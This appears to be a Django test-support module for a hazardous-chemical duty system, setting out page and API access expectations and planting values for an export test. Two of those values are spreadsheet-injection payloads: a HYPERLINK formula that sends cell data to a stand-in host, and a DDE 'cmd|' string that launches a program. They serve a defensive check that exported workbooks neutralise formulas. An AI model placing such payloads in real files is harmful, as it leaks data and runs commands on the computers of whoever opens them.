"""What the access tables open for 包保责任 (merged into ``test_page_access.PAGES`` and
``test_api_access.API_READS``), and the formula-like strings ``test_export_formulas`` plants
in its two workbooks.

The records are the setup's major hazard source (``access_hazchem.hazchem``) and an
操作负责人 of it named once per setup by the administrator. Every POST row sends an empty
form: let in, refused, nothing written (422). Changing a frequency is city-wide: a district
user whose role grants it is refused like a wrong role (403)."""

from datetime import timedelta

from django.utils import timezone

from anjian.hazchem import services_duties
from anjian.hazchem.tests import duty_factories
from anjian.web.tests.access_hazchem import NO_SCOPE, hazchem
from anjian.web.tests.access_pages import Page
from anjian.web.tests.access_setup import Setup
from testsupport import world


def duty(setup: Setup):
    """The setup's source's 操作负责人, named once."""
    if not hasattr(setup, "_hazchem_duty"):
        source = hazchem(setup).source
        setup._hazchem_duty = services_duties.duty_assign(
            world.actor("admin"),
            source_id=source.pk,
            role="operational",
            replaces=None,
            data={
                "name": "访问测试操作负责人",
                "phone": "13800000000",
                "since": timezone.localdate() - timedelta(days=30),
            },
        )
    return setup._hazchem_duty


def _source(setup: Setup) -> list:
    return [hazchem(setup).source.pk]


HAZCHEM_DUTY_PAGES: dict[str, Page] = {
    "hazchem:source_duties": Page(args=_source, unseen=NO_SCOPE),
    "hazchem:source_duty_assign": Page(method="post", args=_source, ok=(422,)),
    "hazchem:source_duty_end": Page(
        method="post", args=lambda s: [hazchem(s).source.pk, duty(s).pk], ok=(422,)
    ),
    "hazchem:source_check_record": Page(method="post", args=_source, ok=(422,)),
    "hazchem:duty_figures": Page(),
    "hazchem:duty_figures_export": Page(),
    "hazchem:duty_checks_export": Page(),
    "hazchem:duty_figures_sources": Page(),
    "hazchem:duty_figures_sources_export": Page(),
    "hazchem:duty_rules": Page(),
    "hazchem:duty_rule_set": Page(method="post", args=lambda s: ["technical"], ok=(422,)),
}

# The reads, each filled by ``access_hazchem.hazchem_api_url`` (the setup's source).
HAZCHEM_DUTY_API_READS = {
    "/api/v1/hazchem/sources/{int:source_id}/duties",
    "/api/v1/hazchem/sources/{int:source_id}/checks",
    "/api/v1/hazchem/duty-rules",
    "/api/v1/hazchem/duty-completion",
    "/api/v1/hazchem/duty-completion/sources",
}


# --- formulas planted for test_export_formulas ----------------------------------------------

FORMULA = '=HYPERLINK("http://x.example/?"&C2,"张三")'
PLUS = "+1+cmd|' /C calc'!A0"


def plant_duties() -> list[str]:
    """A source whose unit is named with a formula, its 操作负责人 named with another (the
    drill-down's columns), by the district official who downloads the workbooks."""
    source = duty_factories.source(name=FORMULA)
    duty_factories.holder(source, "operational", PLUS, by=world.actor("district_official"))
    return [FORMULA, f"{PLUS} 13800000000"]


def plant_duties_figure() -> list[str]:
    """The same records: the figure's workbook holds names and counts only (no unit or
    holder), so it is checked for formulas with nothing to find as text."""
    plant_duties()
    return []


def plant_duty_checks() -> list[str]:
    """A check whose findings start with a formula, on a source whose unit is named with
    one, recorded this quarter (the ledger's default range)."""
    source = duty_factories.source(name=FORMULA)
    holder = duty_factories.holder(source, "operational", PLUS, by=world.actor("district_official"))
    duty_factories.check(source, holder, timezone.localdate(), findings=f"{PLUS}检查")
    return [FORMULA, f"{PLUS}检查"]
